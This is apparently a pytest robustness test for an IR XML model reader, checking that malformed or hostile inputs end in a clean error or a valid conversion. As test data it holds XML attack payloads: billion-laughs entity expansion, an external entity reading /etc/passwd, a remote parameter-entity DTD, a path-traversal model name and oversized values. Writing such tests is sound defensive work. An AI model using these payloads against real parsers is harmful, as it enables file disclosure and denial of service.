"""Hostile and broken IR XML never crashes the reader: every input ends with exit status 0 and
both output files, or exit status 1, one `ov-opt: error:` line and no output file. The inputs
are XML attacks (entity expansion, external entities, huge attribute values, deep nesting) and
mutations of a real IR (truncations, byte flips, huge dims, negative and out-of-range offsets)."""

import time
from pathlib import Path

import pytest

from support import write_ir_again, xml_mutations

CONV = Path(__file__).parent / "Inputs" / "conv.xml"
TEXT = CONV.read_text()


def run(tmp_path: Path, xml_text: str | bytes, name: str = "model.xml") -> tuple[int, str]:
    return write_ir_again(tmp_path, xml_text, CONV.with_suffix(".bin"), name)


def laughs(levels: int = 10) -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels))
    return TEXT.replace('<net name="tiny_conv"', f'<!DOCTYPE net [{entities}]><net name="&l{levels - 1};"')


ATTACKS = {
    "billion laughs": laughs(),
    "external entity": TEXT.replace(
        '<net name="tiny_conv"', '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net name="&x;"'
    ),
    "parameter entity": TEXT.replace(
        '<net name="tiny_conv"', '<!DOCTYPE net [<!ENTITY % p SYSTEM "http://example.com/x.dtd"> %p;]><net name="n"'
    ),
    "huge attribute value": TEXT.replace('name="conv"', f'name="{"c" * (12 << 20)}"'),
    "huge attribute list": TEXT.replace('strides="1, 1"', f'strides="{", ".join(["1"] * 300_000)}"'),
    "deep nesting": TEXT.replace("<data auto_broadcast", "<a>" * 5000 + "</a>" * 5000 + "<data auto_broadcast"),
    "huge dim": TEXT.replace("<dim>4</dim>", "<dim>99999999999999999999999</dim>"),
    "huge const": TEXT.replace('shape="3, 2, 1, 1"', 'shape="4294967296, 4294967296, 1, 1"'),
    "negative size": TEXT.replace('size="24"', 'size="-24"'),
    "offset past the end": TEXT.replace('offset="24"', 'offset="9223372036854775807"'),
    "name with path separators": TEXT.replace('name="tiny_conv"', 'name="../../etc/passwd"'),
    "empty": "",
    "not xml": "\x00\x01\x02binary",
    "utf-16 with a doctype": (
        '<?xml version="1.0" encoding="UTF-16"?>' + laughs(3)[laughs(3).index("<!DOCTYPE") :]
    ).encode("utf-16"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_refused_or_harmless(tmp_path, name):
    start = time.perf_counter()
    code, message = run(tmp_path, ATTACKS[name])
    assert time.perf_counter() - start < 30, "an attack must not make the reader work for long"
    if "entity" in name or "laughs" in name or "doctype" in name:
        assert code == 1 and ("DTD" in message or "XML" in message), message


def test_mutated_ir_is_refused_or_converted(tmp_path):
    outcomes = {0: 0, 1: 0}
    for _, data in xml_mutations(TEXT, seed=11, count=200):
        code, _ = run(tmp_path, data)
        outcomes[code] += 1
    assert outcomes[1] > 0 and outcomes[0] > 0, outcomes  # both ends are reached: the inputs vary
